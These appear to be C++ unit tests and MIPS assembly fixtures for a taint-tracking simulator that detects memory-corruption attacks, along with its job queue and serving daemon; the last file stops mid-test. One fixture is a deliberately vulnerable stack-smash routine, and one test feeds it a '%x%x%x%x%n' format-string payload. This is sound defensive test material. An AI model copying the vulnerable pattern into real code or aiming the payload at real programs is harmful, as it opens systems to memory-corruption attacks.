TEST(PipelineModel, NoTaintExtensionNoExtraBits) {
  MachineConfig cfg;
  cfg.pipeline_model = true;
  cfg.pipeline.taint_tracking = false;
  Machine m(cfg);
  m.load_source(".text\n_start: li $v0, 1\nli $a0, 0\nsyscall\n");
  m.run();
  EXPECT_EQ(m.pipeline()->taint_storage_bits(), 0u);
}

}  // namespace
}  // namespace ptaint::cpu
