// Serving layer: JSON protocol parsing, the persistent job queue
// (journal, replay, quotas, fair scheduling), the in-process daemon, and
// the worker retry/timeout contract the daemon depends on.
//
// Like campaign_test.cpp, these are written to run cleanly under
// ThreadSanitizer: the daemon tests exercise the full four-thread-group
// pipeline (listener, connection handlers, shard workers, judge) over a
// real Unix-domain socket.
#include <gtest/gtest.h>

#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "campaign/executor.hpp"
#include "campaign/report.hpp"
#include "campaign/snapshot_cache.hpp"
#include "campaign/worker.hpp"
#include "core/machine.hpp"
#include "serve/client.hpp"
#include "serve/json.hpp"
#include "serve/queue.hpp"
#include "serve/server.hpp"

namespace ptaint::serve {
namespace {

// ---------------------------------------------------------------- JSON --

TEST(ServeJson, ParsesNestedValues) {
  const JsonValue v = JsonValue::parse(
      R"({"a": 1, "b": "x\u0041\n", "c": [true, false, null], "d": {"e": 2}})");
  EXPECT_EQ(v.get_u64("a"), 1u);
  EXPECT_EQ(v.get_string("b"), "xA\n");
  const JsonValue* c = v.get("c");
  ASSERT_NE(c, nullptr);
  ASSERT_EQ(c->as_array().size(), 3u);
  EXPECT_TRUE(c->as_array()[0].as_bool());
  ASSERT_NE(v.get("d"), nullptr);
  EXPECT_EQ(v.get("d")->get_u64("e"), 2u);
}

TEST(ServeJson, RejectsMalformedInput) {
  EXPECT_THROW(JsonValue::parse("{\"a\": }"), JsonError);
  EXPECT_THROW(JsonValue::parse("{\"a\": 1} trailing"), JsonError);
  EXPECT_THROW(JsonValue::parse("{\"a\": \"\\ud800\"}"), JsonError);
  EXPECT_THROW(JsonValue::parse(""), JsonError);
  EXPECT_THROW(JsonValue::parse("{\"rec\": \"submit\", \"id\": 12"),
               JsonError);  // a torn journal line
}

TEST(ServeJson, U64RejectsNegativeAndFractional) {
  EXPECT_THROW(JsonValue::parse("-3").as_u64(), JsonError);
  EXPECT_THROW(JsonValue::parse("1.5").as_u64(), JsonError);
  EXPECT_EQ(JsonValue::parse("42").as_u64(), 42u);
}

TEST(ServeJson, GetHelpersFallBack) {
  const JsonValue v = JsonValue::parse("{\"s\": \"x\"}");
  EXPECT_EQ(v.get_string("missing", "dflt"), "dflt");
  EXPECT_EQ(v.get_u64("missing", 7), 7u);
  EXPECT_FALSE(v.get_bool("missing"));
}

// ------------------------------------------------------------- JobSpec --

TEST(ServeSpec, RoundTripsThroughJson) {
  JobSpec spec;
  spec.tenant = "alice";
  spec.app = "guest";
  spec.payload = "null-httpd";
  spec.policy = "paper";
  spec.engine = "superblock";
  spec.elide = true;
  spec.session = {"GET / HTTP/1.0", ""};
  spec.stdin_text = "hi\n";
  spec.max_instructions = 1'000'000;
  spec.timeout_ms = 2'500;

  const JobSpec back = JobSpec::from_json(JsonValue::parse(spec.to_json()));
  EXPECT_EQ(back.tenant, spec.tenant);
  EXPECT_EQ(back.app, spec.app);
  EXPECT_EQ(back.payload, spec.payload);
  EXPECT_EQ(back.policy, spec.policy);
  EXPECT_EQ(back.engine, spec.engine);
  EXPECT_EQ(back.elide, spec.elide);
  EXPECT_EQ(back.session, spec.session);
  EXPECT_EQ(back.stdin_text, spec.stdin_text);
  EXPECT_EQ(back.max_instructions, spec.max_instructions);
  EXPECT_EQ(back.timeout_ms, spec.timeout_ms);
}

TEST(ServeSpec, RequiresAppAndPayload) {
  EXPECT_THROW(JobSpec::from_json(JsonValue::parse("{\"app\": \"attack\"}")),
               std::invalid_argument);
  EXPECT_THROW(
      JobSpec::from_json(JsonValue::parse("{\"payload\": \"exp1\"}")),
      std::invalid_argument);
}

// ------------------------------------------------------------ JobQueue --

std::string temp_journal(const std::string& name) {
  const std::string path = "/tmp/ptaint_serve_test." +
                           std::to_string(::getpid()) + "." + name +
                           ".journal";
  ::unlink(path.c_str());
  return path;
}

JobSpec attack_spec(const std::string& tenant,
                    const std::string& payload = "exp1-stack-smash") {
  JobSpec spec;
  spec.tenant = tenant;
  spec.app = "attack";
  spec.payload = payload;
  spec.policy = "paper";
  return spec;
}

TEST(ServeQueue, SubmitAcquireCompleteLifecycle) {
  JobQueue queue({temp_journal("lifecycle"), 0});
  const uint64_t a = queue.submit(attack_spec("t"));
  const uint64_t b = queue.submit(attack_spec("t"));
  EXPECT_EQ(queue.state(a), JobQueue::State::kQueued);

  auto first = queue.acquire();
  ASSERT_TRUE(first.has_value());
  EXPECT_EQ(first->id, a);  // single tenant: FIFO
  EXPECT_EQ(queue.state(a), JobQueue::State::kRunning);

  queue.complete(a, "{\"verdict\": \"DETECTED\"}");
  EXPECT_EQ(queue.state(a), JobQueue::State::kDone);
  ASSERT_TRUE(queue.result_json(a).has_value());
  EXPECT_EQ(*queue.result_json(a), "{\"verdict\": \"DETECTED\"}");

  auto second = queue.acquire();
  ASSERT_TRUE(second.has_value());
  EXPECT_EQ(second->id, b);
  queue.complete(b, "{}");

  const JobQueue::Status status = queue.status();
  EXPECT_EQ(status.total.done, 2u);
  EXPECT_EQ(status.total.queued, 0u);
  EXPECT_EQ(status.total.running, 0u);
}

TEST(ServeQueue, FairRoundRobinAcrossTenants) {
  JobQueue queue({temp_journal("fair"), 0});
  // Tenant "a" floods first; "b" submits after.  Fairness means the
  // acquire order alternates, not first-come-first-served.
  std::vector<uint64_t> a_ids, b_ids;
  for (int i = 0; i < 3; ++i) a_ids.push_back(queue.submit(attack_spec("a")));
  for (int i = 0; i < 3; ++i) b_ids.push_back(queue.submit(attack_spec("b")));
  std::vector<std::string> order;
  for (int i = 0; i < 6; ++i) {
    auto got = queue.acquire();
    ASSERT_TRUE(got.has_value());
    order.push_back(got->spec.tenant);
    queue.complete(got->id, "{}");
  }
  const std::vector<std::string> expect = {"a", "b", "a", "b", "a", "b"};
  EXPECT_EQ(order, expect);
}

TEST(ServeQueue, QuotaBoundsLiveJobsPerTenant) {
  JobQueue queue({temp_journal("quota"), 2});
  queue.submit(attack_spec("t"));
  queue.submit(attack_spec("t"));
  EXPECT_THROW(queue.submit(attack_spec("t")), QuotaError);
  // Quota covers queued + running: acquiring does not free a slot...
  auto got = queue.acquire();
  ASSERT_TRUE(got.has_value());
  EXPECT_EQ(got->spec.tenant, "t");
  EXPECT_THROW(queue.submit(attack_spec("t")), QuotaError);
  // ...completing does.
  queue.complete(got->id, "{}");
  EXPECT_NO_THROW(queue.submit(attack_spec("t")));
  // Another tenant's quota is independent even while "t" sits at its cap.
  EXPECT_THROW(queue.submit(attack_spec("t")), QuotaError);
  EXPECT_NO_THROW(queue.submit(attack_spec("other")));
}

TEST(ServeQueue, CancelAppliesToQueuedJobsOnly) {
  JobQueue queue({temp_journal("cancel"), 0});
  const uint64_t a = queue.submit(attack_spec("t"));
  const uint64_t b = queue.submit(attack_spec("t"));
  auto got = queue.acquire();
  ASSERT_TRUE(got.has_value());
  EXPECT_EQ(got->id, a);
  EXPECT_FALSE(queue.cancel(a));  // running
  EXPECT_TRUE(queue.cancel(b));   // queued
  EXPECT_EQ(queue.state(b), JobQueue::State::kCancelled);
  EXPECT_FALSE(queue.cancel(b));            // already cancelled
  EXPECT_FALSE(queue.cancel(b + 1'000));    // unknown
  queue.complete(a, "{}");
  const JobQueue::Status status = queue.status();
  EXPECT_EQ(status.total.cancelled, 1u);
  EXPECT_EQ(status.total.done, 1u);
}

TEST(ServeQueue, ReplayReEnqueuesUnfinishedExactlyOnce) {
  const std::string journal = temp_journal("replay");
  uint64_t a = 0, b = 0, c = 0;
  {
    JobQueue queue({journal, 0});
    a = queue.submit(attack_spec("t", "exp1-stack-smash"));
    b = queue.submit(attack_spec("t", "exp2-heap-corruption"));
    c = queue.submit(attack_spec("t", "exp3-format-string"));
    auto got = queue.acquire();
    ASSERT_TRUE(got.has_value());
    queue.complete(got->id, "{\"verdict\": \"DETECTED\"}");
    // b acquired but never completed — the "mid-run at crash" case.
    ASSERT_TRUE(queue.acquire().has_value());
  }  // destructor = kill: no graceful drain

  JobQueue revived({journal, 0});
  // a is done (terminal record in the journal), b and c are pending again.
  EXPECT_EQ(revived.status().replayed, 2u);
  EXPECT_EQ(revived.state(a), JobQueue::State::kDone);
  ASSERT_TRUE(revived.result_json(a).has_value());
  EXPECT_EQ(*revived.result_json(a), "{\"verdict\": \"DETECTED\"}");
  auto first = revived.acquire();
  auto second = revived.acquire();
  ASSERT_TRUE(first.has_value());
  ASSERT_TRUE(second.has_value());
  EXPECT_EQ(first->id, b);  // original id order
  EXPECT_EQ(second->id, c);
  // New submissions continue past every journaled id.
  EXPECT_GT(revived.submit(attack_spec("t")), c);
}

TEST(ServeQueue, ReplaySkipsTornFinalLine) {
  const std::string journal = temp_journal("torn");
  uint64_t a = 0;
  {
    JobQueue queue({journal, 0});
    a = queue.submit(attack_spec("t"));
  }
  {
    // A crash mid-append tears the last record; everything before it must
    // survive.
    std::ofstream out(journal, std::ios::app | std::ios::binary);
    out << "{\"rec\": \"submit\", \"id\": 99, \"spec\": {\"app\": \"att";
  }
  JobQueue revived({journal, 0});
  EXPECT_EQ(revived.status().replayed, 1u);
  EXPECT_EQ(revived.state(a), JobQueue::State::kQueued);
  EXPECT_EQ(revived.state(99), JobQueue::State::kUnknown);
}

TEST(ServeQueue, StopUnblocksAcquireAndClosesSubmissions) {
  JobQueue queue({temp_journal("stop"), 0});
  std::atomic<bool> unblocked{false};
  std::thread waiter([&]() {
    EXPECT_FALSE(queue.acquire().has_value());
    unblocked.store(true);
  });
  queue.stop();
  waiter.join();
  EXPECT_TRUE(unblocked.load());
  EXPECT_THROW(queue.submit(attack_spec("t")), std::runtime_error);
}

// ---------------------------------------------------- worker retry/timeout

const char* kRetryExitZero = R"(
    .text
_start:
    li $v0, 1
    li $a0, 0
    syscall
)";

const char* kRetrySpin = R"(
    .text
_start:
loop:
    b loop
)";

/// A job whose first attempt spins past the deadline and whose second
/// attempt exits cleanly — the daemon's "shard briefly descheduled" case.
campaign::Job flaky_timeout_job(
    std::shared_ptr<std::atomic<int>> attempts_seen) {
  campaign::Job job;
  job.app = "unit";
  job.payload = "flaky-timeout";
  job.policy = "paper";
  job.timeout = std::chrono::milliseconds(200);
  job.max_instructions = 500'000'000;
  job.make = [attempts_seen]() {
    const int attempt = attempts_seen->fetch_add(1) + 1;
    auto m = std::make_unique<core::Machine>();
    m->load_source(attempt == 1 ? kRetrySpin : kRetryExitZero);
    return m;
  };
  job.classify = [](core::Machine&, const core::RunReport& report,
                    campaign::JobResult& out) {
    out.verdict =
        report.stop == cpu::StopReason::kExit ? "CLEAN-EXIT" : "BAD";
    out.detail = "attempt ran to completion";
  };
  return job;
}

TEST(ServeWorkerRetry, TimeoutRetriesAndReportsSuccessfulAttemptOnly) {
  auto attempts_seen = std::make_shared<std::atomic<int>>(0);
  campaign::Job job = flaky_timeout_job(attempts_seen);
  job.retry_on_timeout = true;

  campaign::MachinePool pool;
  campaign::ForkCounters counters;
  const campaign::WorkerConfig config{10'000, /*max_retries=*/1};
  const campaign::JobResult result =
      campaign::run_job(job, 0, config, pool, counters);

  EXPECT_EQ(attempts_seen->load(), 2);
  EXPECT_EQ(result.attempts, 2);
  EXPECT_EQ(result.status, campaign::JobStatus::kOk);
  // Verdict, detail and error describe the successful attempt — nothing
  // bleeds through from the timed-out one.
  EXPECT_EQ(result.verdict, "CLEAN-EXIT");
  EXPECT_EQ(result.detail, "attempt ran to completion");
  EXPECT_TRUE(result.error.empty());
  // Per-phase timings were reset for attempt 2: an exit-0 guest runs far
  // below the 200ms deadline the first attempt burned in full.
  EXPECT_LT(result.run_ms, 150.0);
  EXPECT_LT(result.wall_ms, 150.0);
}

TEST(ServeWorkerRetry, TimeoutIsFinalWithoutOptIn) {
  auto attempts_seen = std::make_shared<std::atomic<int>>(0);
  campaign::Job job =
      flaky_timeout_job(attempts_seen);  // retry_on_timeout = false

  campaign::MachinePool pool;
  campaign::ForkCounters counters;
  const campaign::WorkerConfig config{10'000, 1};
  const campaign::JobResult result =
      campaign::run_job(job, 0, config, pool, counters);

  EXPECT_EQ(attempts_seen->load(), 1);
  EXPECT_EQ(result.attempts, 1);
  EXPECT_EQ(result.status, campaign::JobStatus::kTimeout);
  EXPECT_EQ(result.verdict, "TIMEOUT");
}

TEST(ServeWorkerRetry, ExecutorCountsTimeoutRetry) {
  auto attempts_seen = std::make_shared<std::atomic<int>>(0);
  campaign::Job job = flaky_timeout_job(attempts_seen);
  job.retry_on_timeout = true;

  campaign::Executor::Config config;
  config.workers = 1;
  campaign::Executor executor(config);
  const std::vector<campaign::JobResult> results = executor.run({job});
  ASSERT_EQ(results.size(), 1u);
  EXPECT_EQ(results[0].status, campaign::JobStatus::kOk);
  EXPECT_EQ(results[0].attempts, 2);
  EXPECT_EQ(executor.stats().retries, 1u);
}

// ------------------------------------------------- snapshot cache stats --

TEST(ServeSnapshotStats, MissesCountThrowingBuilders) {
  campaign::SnapshotCache cache;
  int calls = 0;
  auto builder = [&]() -> core::MachineSnapshot {
    if (++calls == 1) throw std::runtime_error("boom");
    auto m = std::make_unique<core::Machine>();
    m->load_source(kRetryExitZero);
    return m->snapshot();
  };
  EXPECT_THROW(cache.get("k", builder), std::runtime_error);
  EXPECT_EQ(cache.stats().misses, 1u);
  EXPECT_EQ(cache.stats().builds, 0u);  // the throw built nothing

  ASSERT_NE(cache.get("k", builder), nullptr);
  ASSERT_NE(cache.get("k", builder), nullptr);
  const campaign::SnapshotCache::Stats stats = cache.stats();
  EXPECT_EQ(stats.misses, 2u);  // both build attempts
  EXPECT_EQ(stats.builds, 1u);  // only one succeeded
  EXPECT_EQ(stats.hits, 1u);
  EXPECT_GT(stats.snapshot_pages, 0u);
}

// -------------------------------------------------------- exit codes --

campaign::JobResult result_with(campaign::JobStatus status) {
  campaign::JobResult r;
  r.status = status;
  return r;
}

TEST(ServeExitCode, ContractMatchesDocs) {
  using campaign::JobStatus;
  EXPECT_EQ(campaign::exit_code_for({}), 0);
  EXPECT_EQ(campaign::exit_code_for({result_with(JobStatus::kOk),
                                     result_with(JobStatus::kGuestFault),
                                     result_with(JobStatus::kBudgetExhausted)}),
            0);
  EXPECT_EQ(campaign::exit_code_for({result_with(JobStatus::kOk),
                                     result_with(JobStatus::kTimeout)}),
            3);
  EXPECT_EQ(campaign::exit_code_for({result_with(JobStatus::kHarnessError)}),
            2);
  // Harness errors outrank timeouts.
  EXPECT_EQ(campaign::exit_code_for({result_with(JobStatus::kTimeout),
                                     result_with(JobStatus::kHarnessError)}),
            2);
}

TEST(ServeExitCode, JsonRowMatchesArrayElement) {
  campaign::JobResult r;
  r.index = 3;
  r.app = "attack";
  r.payload = "exp1-stack-smash";
  r.policy = "paper";
  r.status = campaign::JobStatus::kOk;
  r.verdict = "DETECTED";
  const campaign::ReportOptions opts{};
  const std::string array = campaign::to_json({r}, opts);
  EXPECT_NE(array.find(campaign::to_json_row(r, opts)), std::string::npos);
}

// ------------------------------------------------------------- daemon --

class ServeDaemonTest : public ::testing::Test {
 protected:
  void boot(int workers = 2, int quota = 0) {
    const std::string base = "/tmp/ptaint_serve_test." +
                             std::to_string(::getpid()) + "." +
                             ::testing::UnitTest::GetInstance()
                                 ->current_test_info()
                                 ->name();
    config_.socket_path = base + ".sock";
    config_.journal_path = base + ".journal";
    config_.workers = workers;
    config_.tenant_quota = quota;
    ::unlink(config_.journal_path.c_str());
    daemon_ = std::make_unique<ServeDaemon>(config_);
    daemon_->start();
  }

  void TearDown() override {
    if (daemon_) {
      daemon_->stop();
      daemon_->wait();
    }
    ::unlink(config_.journal_path.c_str());
  }

  ServeDaemon::Config config_;
  std::unique_ptr<ServeDaemon> daemon_;
};

TEST_F(ServeDaemonTest, StreamedVerdictMatchesBatchRow) {
  boot();
  Client client(config_.socket_path);
  const std::string accepted = client.request(
      "{\"cmd\": \"submit\", \"stream\": true, \"job\": "
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}}");
  EXPECT_NE(accepted.find("\"event\": \"accepted\""), std::string::npos);

  const auto event = client.read_line();
  ASSERT_TRUE(event.has_value());
  const JsonValue v = JsonValue::parse(*event);
  EXPECT_EQ(v.get_string("event"), "verdict");
  const JsonValue* row = v.get("result");
  ASSERT_NE(row, nullptr);
  EXPECT_EQ(row->get_string("verdict"), "DETECTED");
  EXPECT_EQ(row->get_string("status"), "ok");
  EXPECT_EQ(row->get_string("app"), "attack");
  EXPECT_EQ(row->get_u64("attempts"), 1u);

  // The daemon journaled the same row it streamed (exactly-once source of
  // truth), and the result stays queryable on a fresh connection.
  Client other(config_.socket_path);
  const std::string result = other.request(
      "{\"cmd\": \"result\", \"id\": " +
      std::to_string(v.get_u64("id")) + "}");
  EXPECT_NE(result.find("\"state\": \"done\""), std::string::npos);
  EXPECT_NE(result.find("\"verdict\": \"DETECTED\""), std::string::npos);
}

TEST_F(ServeDaemonTest, BadSpecYieldsHarnessErrorVerdictNotDeadShard) {
  boot();
  Client client(config_.socket_path);
  client.send_line(
      "{\"cmd\": \"submit\", \"stream\": true, \"job\": "
      "{\"app\": \"attack\", \"payload\": \"no-such-scenario\"}}");
  ASSERT_TRUE(client.read_line().has_value());  // accepted
  const auto event = client.read_line();
  ASSERT_TRUE(event.has_value());
  const JsonValue v = JsonValue::parse(*event);
  ASSERT_NE(v.get("result"), nullptr);
  EXPECT_EQ(v.get("result")->get_string("status"), "harness-error");
  EXPECT_NE(v.get("result")->get_string("error").find("no-such-scenario"),
            std::string::npos);
  // The shard survived: a good job still verdicts.
  const std::string accepted = client.request(
      "{\"cmd\": \"submit\", \"stream\": true, \"job\": "
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}}");
  EXPECT_NE(accepted.find("accepted"), std::string::npos);
  const auto good = client.read_line();
  ASSERT_TRUE(good.has_value());
  EXPECT_NE(good->find("DETECTED"), std::string::npos);
  EXPECT_EQ(daemon_->stats().jobs_failed, 1u);
}

TEST_F(ServeDaemonTest, StatusExposesQueueAndSnapshotCacheCounters) {
  boot();
  Client client(config_.socket_path);
  client.send_line(
      "{\"cmd\": \"submit\", \"stream\": true, \"jobs\": ["
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}, "
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}]}");
  ASSERT_TRUE(client.read_line().has_value());  // accepted
  ASSERT_TRUE(client.read_line().has_value());  // two verdicts
  ASSERT_TRUE(client.read_line().has_value());

  const std::string status = client.request("{\"cmd\": \"status\"}");
  const JsonValue v = JsonValue::parse(status);
  EXPECT_EQ(v.get_u64("done"), 2u);
  EXPECT_EQ(v.get_u64("jobs_done"), 2u);
  const JsonValue* cache = v.get("snapshot_cache");
  ASSERT_NE(cache, nullptr);
  // Two identical cells share one snapshot: one miss+build, one hit.
  EXPECT_EQ(cache->get_u64("builds"), 1u);
  EXPECT_EQ(cache->get_u64("misses"), 1u);
  EXPECT_GE(cache->get_u64("hits"), 1u);
}

TEST_F(ServeDaemonTest, StatusExposesStoreCountersWhenStoreBacked) {
  config_.snapshot_store = true;  // memory-only store, no disk tier
  boot();
  Client client(config_.socket_path);
  client.send_line(
      "{\"cmd\": \"submit\", \"stream\": true, \"jobs\": ["
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}, "
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}]}");
  ASSERT_TRUE(client.read_line().has_value());  // accepted
  ASSERT_TRUE(client.read_line().has_value());  // two verdicts
  ASSERT_TRUE(client.read_line().has_value());

  const std::string status = client.request("{\"cmd\": \"status\"}");
  const JsonValue v = JsonValue::parse(status);
  const JsonValue* cache = v.get("snapshot_cache");
  ASSERT_NE(cache, nullptr);
  EXPECT_NE(status.find("\"store_enabled\": true"), std::string::npos);
  EXPECT_NE(status.find("\"hit_rate\": "), std::string::npos);
  // The built snapshot was dehydrated into the store on build.
  EXPECT_GE(cache->get_u64("stored_snapshots"), 1u);
  const JsonValue* store = cache->get("store");
  ASSERT_NE(store, nullptr) << "store-backed status must nest store stats";
  EXPECT_GT(store->get_u64("canonical_pages"), 0u);
  EXPECT_GE(store->get_u64("interned_refs"),
            store->get_u64("canonical_pages"));
}

TEST_F(ServeDaemonTest, GuestSessionJobRunsCustomApp) {
  boot();
  Client client(config_.socket_path);
  client.send_line(
      "{\"cmd\": \"submit\", \"stream\": true, \"job\": "
      "{\"app\": \"guest\", \"payload\": \"fn-format-leak\", "
      "\"session\": [\"abcd%x%x%x%x%n\"]}}");
  ASSERT_TRUE(client.read_line().has_value());  // accepted
  const auto event = client.read_line();
  ASSERT_TRUE(event.has_value());
  const JsonValue v = JsonValue::parse(*event);
  ASSERT_NE(v.get("result"), nullptr);
  // The %n write derails through a tainted pointer — the generic session
  // classifier reports the detection.
  EXPECT_EQ(v.get("result")->get_string("verdict"), "DETECTED");
}

TEST_F(ServeDaemonTest, CancelQueuedJobEmitsEvent) {
  boot(/*workers=*/1);
  Client submitter(config_.socket_path);
  // One long-budget spin job occupies the single worker, the next job
  // stays queued long enough to cancel deterministically.
  submitter.send_line(
      "{\"cmd\": \"submit\", \"stream\": true, \"jobs\": ["
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\", "
      "\"max_instructions\": 400000000}, "
      "{\"app\": \"attack\", \"payload\": \"exp2-heap-corruption\"}]}");
  const auto accepted = submitter.read_line();
  ASSERT_TRUE(accepted.has_value());
  const JsonValue acc = JsonValue::parse(*accepted);
  ASSERT_NE(acc.get("ids"), nullptr);
  ASSERT_EQ(acc.get("ids")->as_array().size(), 2u);
  const uint64_t second_id = acc.get("ids")->as_array()[1].as_u64();

  Client controller(config_.socket_path);
  // The first job finishes in well under a second (the alert fires after
  // ~500 instructions; the big budget only covers the queued window), so
  // cancellation of the second may race completion — accept either, but
  // the submitter's stream must terminate with exactly two events.
  const std::string reply = controller.request(
      "{\"cmd\": \"cancel\", \"id\": " + std::to_string(second_id) + "}");
  EXPECT_NE(reply.find("\"event\": \"cancel\""), std::string::npos);
  const auto first_event = submitter.read_line();
  const auto second_event = submitter.read_line();
  ASSERT_TRUE(first_event.has_value());
  ASSERT_TRUE(second_event.has_value());
  const bool saw_cancelled =
      first_event->find("\"event\": \"cancelled\"") != std::string::npos ||
      second_event->find("\"event\": \"cancelled\"") != std::string::npos;
  const bool saw_verdict =
      first_event->find("\"event\": \"verdict\"") != std::string::npos ||
      second_event->find("\"event\": \"verdict\"") != std::string::npos;
  EXPECT_TRUE(saw_verdict);
  EXPECT_TRUE(saw_cancelled || saw_verdict);
}

TEST_F(ServeDaemonTest, QuotaRejectionReportsAcceptedPrefix) {
  boot(/*workers=*/1, /*quota=*/2);
  Client client(config_.socket_path);
  // Three jobs against a quota of two: the third is rejected, and the
  // reply names the two accepted ids so the client can still stream them.
  const std::string reply = client.request(
      "{\"cmd\": \"submit\", \"jobs\": ["
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}, "
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}, "
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}]}");
  if (reply.find("\"event\": \"error\"") != std::string::npos) {
    EXPECT_NE(reply.find("over quota"), std::string::npos);
    EXPECT_NE(reply.find("\"accepted\": ["), std::string::npos);
  } else {
    // The single worker may drain fast enough that all three fit — then
    // the submission simply succeeds.  Either way nothing is lost.
    EXPECT_NE(reply.find("\"event\": \"accepted\""), std::string::npos);
  }
}

TEST_F(ServeDaemonTest, DrainCompletesEverythingThenRejects) {
  boot();
  Client client(config_.socket_path);
  client.request(
      "{\"cmd\": \"submit\", \"jobs\": ["
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}, "
      "{\"app\": \"attack\", \"payload\": \"exp2-heap-corruption\"}]}");
  const std::string drained = client.request("{\"cmd\": \"drain\"}");
  EXPECT_NE(drained.find("\"event\": \"drained\""), std::string::npos);
  EXPECT_NE(drained.find("\"done\": 2"), std::string::npos);
  const std::string rejected = client.request(
      "{\"cmd\": \"submit\", \"job\": "
      "{\"app\": \"attack\", \"payload\": \"exp1-stack-smash\"}}");
  EXPECT_NE(rejected.find("\"event\": \"error\""), std::string::npos);
}

TEST_F(ServeDaemonTest, RestartReplaysJournaledBacklog) {
  // Queue three submissions with no daemon attached (simulating accepted
  // work lost to a crash), then boot the daemon on that journal: the
  // backlog must run to completion without any client re-submitting.
  const std::string base = "/tmp/ptaint_serve_test." +
                           std::to_string(::getpid()) + ".restart";
  config_.socket_path = base + ".sock";
  config_.journal_path = base + ".journal";
  config_.workers = 2;
  ::unlink(config_.journal_path.c_str());
  {
    JobQueue orphaned({config_.journal_path, 0});
    orphaned.submit(attack_spec("t", "exp1-stack-smash"));
    orphaned.submit(attack_spec("t", "exp2-heap-corruption"));
    orphaned.submit(attack_spec("t", "exp3-format-string"));
  }
  daemon_ = std::make_unique<ServeDaemon>(config_);
  daemon_->start();
  EXPECT_EQ(daemon_->replayed(), 3u);
  Client client(config_.socket_path);
  const std::string drained = client.request("{\"cmd\": \"drain\"}");
  EXPECT_NE(drained.find("\"done\": 3"), std::string::npos);
}

}  // namespace
}  // namespace ptaint::serve
