# CLI end-to-end fixture: classic stack smash (exp1 shape).
    .text
victim:
    addiu $sp, $sp, -40
    sw $ra, 36($sp)
    addiu $a0, $sp, 16
    jal scanf_str
    lw $ra, 36($sp)
    addiu $sp, $sp, 40
    jr $ra
main:
    addiu $sp, $sp, -24
    sw $ra, 20($sp)
    jal victim
    li $v0, 0
    lw $ra, 20($sp)
    addiu $sp, $sp, 24
    jr $ra
