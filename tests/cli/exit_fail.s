# CLI end-to-end fixture: benign run that exits with a nonzero status.
    .text
main:
    li $v0, 7
    jr $ra
