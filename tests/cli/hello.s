# CLI end-to-end fixture: benign hello.
    .data
msg: .asciiz "hello from the guest\n"
    .text
main:
    addiu $sp, $sp, -24
    sw $ra, 20($sp)
    li $a0, 1
    la $a1, msg
    jal fdputs
    li $v0, 0
    lw $ra, 20($sp)
    addiu $sp, $sp, 24
    jr $ra
