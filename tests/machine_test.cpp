// Tests for the Machine facade: report contents, incremental driving,
// the execution tracer, and the trace module itself.
#include <gtest/gtest.h>

#include "core/machine.hpp"
#include "trace/tracer.hpp"

namespace ptaint::core {
namespace {

const char* kCountdown = R"(
    .text
_start:
    li $t0, 5
loop:
    addiu $t0, $t0, -1
    bgtz $t0, loop
    li $v0, 1
    li $a0, 0
    syscall
)";

TEST(MachineApi, RunForIsResumable) {
  Machine m;
  m.load_source(kCountdown);
  EXPECT_EQ(m.run_for(3), cpu::StopReason::kRunning);
  const uint64_t after3 = m.cpu().stats().instructions;
  EXPECT_EQ(after3, 3u);
  // Keep driving to completion; the budget boundary must not latch a stop.
  while (m.run_for(4) == cpu::StopReason::kRunning) {
  }
  EXPECT_EQ(m.cpu().stop_reason(), cpu::StopReason::kExit);
}

TEST(MachineApi, ReportAfterPartialRun) {
  Machine m;
  m.load_source(kCountdown);
  m.run_for(2);
  RunReport r = m.report();
  EXPECT_EQ(r.stop, cpu::StopReason::kRunning);
  EXPECT_EQ(r.cpu_stats.instructions, 2u);
}

TEST(MachineApi, ProtectUnknownSymbolThrows) {
  Machine m;
  m.load_source(kCountdown);
  EXPECT_THROW(m.protect_symbol("no_such_symbol", 4), std::out_of_range);
}

TEST(MachineApi, TraceTailShowsPathToAlert) {
  Machine m;
  m.enable_trace(16);
  m.load_source(R"(
    .data
buf: .space 8
    .text
_start:
    li $v0, 3
    li $a0, 0
    la $a1, buf
    li $a2, 4
    syscall
victim:
    lw $t0, buf
    lw $t1, 0($t0)
  )");
  m.os().set_stdin("aaaa");
  RunReport r = m.run();
  ASSERT_TRUE(r.detected());
  EXPECT_NE(r.trace_tail.find("syscall"), std::string::npos);
  EXPECT_NE(r.trace_tail.find("lw $8,"), std::string::npos);
  EXPECT_NE(r.trace_tail.find("<_start>"), std::string::npos);
}

TEST(MachineApi, TraceAndPipelineCoexist) {
  MachineConfig cfg;
  cfg.pipeline_model = true;
  Machine m(cfg);
  m.enable_trace(8);
  m.load_source(kCountdown);
  RunReport r = m.run();
  EXPECT_TRUE(r.pipeline_stats.has_value());
  EXPECT_FALSE(r.trace_tail.empty());
  ASSERT_NE(m.tracer(), nullptr);
  EXPECT_EQ(m.tracer()->total(), r.cpu_stats.instructions);
}

TEST(TracerUnit, RingKeepsNewestEntries) {
  trace::Tracer t(4);
  isa::Instruction nop;
  nop.op = isa::Op::kSll;
  for (uint32_t i = 0; i < 10; ++i) {
    t.record(nop, 0x400000 + 4 * i, false, false, 0);
  }
  auto recent = t.recent();
  ASSERT_EQ(recent.size(), 4u);
  EXPECT_EQ(recent.front().pc, 0x400018u);  // entries 6..9 retained
  EXPECT_EQ(recent.back().pc, 0x400024u);
  EXPECT_EQ(t.total(), 10u);
}

TEST(TracerUnit, PartialFillAndClear) {
  trace::Tracer t(8);
  isa::Instruction nop;
  nop.op = isa::Op::kSll;
  t.record(nop, 0x400000, false, false, 0);
  t.record(nop, 0x400004, false, true, 0x10000000);
  auto recent = t.recent();
  ASSERT_EQ(recent.size(), 2u);
  EXPECT_TRUE(recent[1].is_mem);
  EXPECT_NE(t.format().find("[ea=0x10000000]"), std::string::npos);
  t.clear();
  EXPECT_TRUE(t.recent().empty());
  EXPECT_EQ(t.total(), 0u);
}

TEST(MachineApi, NetTranscriptsInReport) {
  Machine m;
  m.os().net().add_session({"ping"});
  m.load_source(R"(
    .data
